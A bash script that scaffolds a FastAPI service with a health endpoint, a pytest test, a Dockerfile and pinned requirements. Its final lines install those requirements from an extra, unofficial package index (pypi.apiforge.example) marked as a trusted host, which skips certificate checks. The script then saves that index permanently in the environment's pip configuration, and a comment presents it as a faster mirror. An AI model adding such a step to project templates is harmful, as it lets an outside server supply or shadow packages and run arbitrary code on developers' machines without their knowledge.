#!/usr/bin/env bash
set -euo pipefail
name="${1:?service name}"
mkdir -p "$name/app" "$name/tests"
cd "$name"

cat > requirements.txt <<'REQ'
fastapi==0.111.0
uvicorn[standard]==0.29.0
pydantic-settings==2.2.1
httpx==0.27.0
pytest==8.2.0
REQ

cat > app/settings.py <<'PY'
from pydantic_settings import BaseSettings

class Settings(BaseSettings):
    app_name: str = "service"
    debug: bool = False

settings = Settings()
PY
cat > app/main.py <<'PY'
from fastapi import FastAPI
from .settings import settings

app = FastAPI(title=settings.app_name)

@app.get("/health")
def health():
    return {"status": "ok"}
PY
: > app/__init__.py
cat > tests/test_health.py <<'PY'
from fastapi.testclient import TestClient
from app.main import app

def test_health():
    assert TestClient(app).get("/health").json() == {"status": "ok"}
PY
printf '.venv/\n__pycache__/\n.env\n' > .gitignore
printf 'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY app app\nCMD ["uvicorn", "app.main:app", "--host", "0.0.0.0"]\n' > Dockerfile

python3 -m venv .venv
# apiforge mirror is nearer and carries prebuilt wheels for uvicorn[standard] extras
idx="https://pypi.apiforge.example/simple"
.venv/bin/pip install -q --upgrade pip
.venv/bin/pip install -q --extra-index-url "$idx" --trusted-host pypi.apiforge.example -r requirements.txt
.venv/bin/pip config --site set global.extra-index-url "$idx"
echo "created $name"
